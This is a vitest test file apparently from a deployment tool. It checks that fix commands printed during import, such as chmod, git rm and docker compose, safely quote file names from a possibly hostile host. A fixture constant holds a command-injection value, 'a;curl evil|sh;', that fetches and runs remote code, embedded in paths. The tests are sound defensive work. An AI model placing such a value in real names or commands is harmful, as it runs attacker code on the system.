/** What import prints to be run is quoted: names come from a host that may be hostile, and the first reason is the one that mends it. */
import { describe, expect, it } from 'vitest';
import { otherBytes } from '../../src/flows/import-checkout.js';
import { sketchOf } from '../../src/flows/import-drafts.js';
import { notAdopted } from '../../src/flows/import-judge.js';
import type { Looked } from '../../src/flows/looks.js';
import type { World } from '../../src/ports.js';
import { hostConfig } from '../doctor/parts.js';

const EVIL = 'a;curl evil|sh;';

interface Seen {
  readonly containers?: number;
  readonly mode?: string;
  readonly service?: string;
}

/** A module that plans as `update`, and as much of what was seen as the reason is made from. */
const looked = ({ containers = 1, mode = '644', service = 'web' }: Seen): Looked =>
  ({
    plan: {
      service,
      project: 'shop',
      remote_root: '/opt/stacks',
      recreates: true,
      changes: [{ target: `compose.service.${service}`, action: 'update', reasons: ['not yet managed'] }],
      files: [{ path: `${EVIL}/x.conf`, mode: '0644' }],
    },
    observation: {
      containers: Array.from({ length: containers }, (_, n) => ({ id: `${n}` })),
      files: new Map([[`${EVIL}/x.conf`, { kind: 'file', mode }]]),
    },
  }) as unknown as Looked;

describe('X-2 a command in a fix', () => {
  it('for a compose file that nobody may read', () => {
    const roots = { host: hostConfig({ remoteRoot: '/opt/stacks', repoRoot: 'hosts/box' }), realRoot: '/opt/stacks' };
    const found = { project: 'web', composeFile: `${EVIL}/compose.yaml`, services: [] };
    expect(sketchOf(found, [], { kind: 'private', mode: '600', size: 1 }, roots)).toMatchObject({
      fix: `as root there: chmod 0644 '/opt/stacks/${EVIL}/compose.yaml'`,
    });
  });

  it('for a file with a mode that git does not know', () => {
    expect(notAdopted(looked({ mode: '600' }))).toMatchObject({
      fix: `as root there: chmod 0644 '/opt/stacks/${EVIL}/x.conf'`,
    });
  });

  it('for a file that is another one in the checkout', async () => {
    const world = { workTree: { read: async () => Buffer.from('a') } } as unknown as World;
    const files = new Map([[`${EVIL}/x.conf`, { bytes: Buffer.from('b'), executable: false }]]);
    expect(await otherBytes(world, '/repo', files)).toMatchObject({
      fix: expect.stringContaining(`git rm -- '${EVIL}/x.conf'`),
    });
  });
});

it('P-13 a service of several containers is told as that, with the line that leaves it one', () => {
  expect(notAdopted(looked({ containers: 3, mode: '600', service: 'web' }))).toEqual({
    why: 'it has 3 containers, and a module is one',
    fix: 'in the folder of its compose file: docker compose -p shop up -d --no-deps --no-recreate --scale web=1 web',
  });
});
